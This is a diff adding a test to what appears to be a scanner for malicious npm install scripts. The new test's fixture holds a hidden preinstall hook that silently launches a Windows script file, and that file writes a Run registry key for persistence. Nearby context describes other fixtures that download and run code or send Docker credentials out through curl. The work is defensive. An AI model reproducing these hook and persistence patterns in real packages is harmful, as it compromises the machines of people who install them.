@@ -233,6 +233,19 @@ def test_a_shell_script_bin_that_downloads_and_runs_code_out_of_sight():
     assert decide(run({"index.js": "module.exports = 1;\n", "bin/webpack-cli": shown}, bins=bins)).level is Level.CLEAN
 
 
+def test_a_windows_script_file_a_hook_starts_is_judged_by_its_lines():
+    # (blind set 44: a preinstall starts `cscript //B doctor.wsf`, whose VBScript block writes a Run key for the script
+    # its JScript block downloaded)
+    hook = ("const { spawn } = require('child_process'), path = require('path');\n"
+            "spawn('cscript.exe', ['//nologo', '//B', path.join(__dirname, 'doctor.wsf')], {detached: true, stdio: 'ignore'}).unref();\n")
+    wsf = ('<?xml version="1.0"?>\n<package><job id="d"><object id="sh" progid="WScript.Shell"/>\n<script language="VBScript">\n'
+           'sh.RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\EnvDoctor", "wscript.exe //B u.js", "REG_SZ"\n'
+           '</script></job></package>\n')
+    found = run({"scripts/check.js": hook, "scripts/doctor.wsf": wsf}, {"preinstall": "node scripts/check.js"})
+    task = next(f for f in found if f.rule == "install-script/scheduled-task")
+    assert task.file == "scripts/doctor.wsf" and decide(found).level is not Level.CLEAN
+
+
 def test_an_extensionless_cli_plugin_that_pipes_a_block_of_loot_to_curl():
     # (blind set 26: a `docker-compose` shell plugin copied into ~/.docker/cli-plugins at install; its block reads
     # ~/.docker/config.json and the environment's tokens and is piped into curl)
